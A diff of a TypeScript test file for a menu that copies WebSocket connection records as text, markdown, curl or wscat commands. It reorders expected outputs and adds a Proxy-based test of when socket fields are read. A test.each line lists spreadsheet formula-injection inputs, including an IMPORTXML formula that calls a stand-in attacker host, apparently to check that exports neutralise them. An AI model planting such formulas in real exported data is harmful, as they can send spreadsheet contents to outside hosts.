@@ -29,9 +29,9 @@ test('an open socket says that it is open', () => {
 test('only what makes sense for a row is offered', () => {
   const idsOf = (row: Parameters<typeof copyChoices>[0]) =>
     copyChoices(row, english, { includeSecrets: false }).map(({ id }) => id);
-  expect(idsOf(endedRow())).toEqual(['text', 'markdown', 'curl', 'wscat']);
+  expect(idsOf(endedRow())).toEqual(['markdown', 'text', 'curl', 'wscat']);
   expect(idsOf(openRow())).toEqual(['text', 'curl', 'wscat']);
-  expect(idsOf(endedRow({ url: 'not a url' }))).toEqual(['text', 'markdown']);
+  expect(idsOf(endedRow({ url: 'not a url' }))).toEqual(['markdown', 'text']);
 });
 
 test.each(['=IMPORTXML("https://evil.test")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1'])(
@@ -45,11 +45,18 @@ test.each(['=IMPORTXML("https://evil.test")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+
 
 test('offering copies makes none of them: a URL is taken apart only when a copy is asked for', () => {
   const row = endedRow();
-  const told: string[] = [];
-  const watched = {
-    ...english,
-    text: (...given: Parameters<typeof english.text>) => String(told.push(String(given[0]))),
-  };
-  copyChoices(row, watched, { includeSecrets: false });
-  expect(told).toEqual([]);
+  const read: (string | symbol)[] = [];
+  // Every copy says what was asked for, or what the close was called.
+  const socket = new Proxy(row.socket, {
+    get: (target, name) => {
+      read.push(name);
+      return Reflect.get(target, name);
+    },
+  });
+  const choices = copyChoices({ ...row, socket }, english, { includeSecrets: false });
+  const before = new Set(read);
+  for (const name of ['requestedProtocols', 'context', 'protocol', 'ending'])
+    expect(before).not.toContain(name);
+  for (const { text } of choices) text();
+  for (const name of ['requestedProtocols', 'context', 'ending']) expect(read).toContain(name);
 });
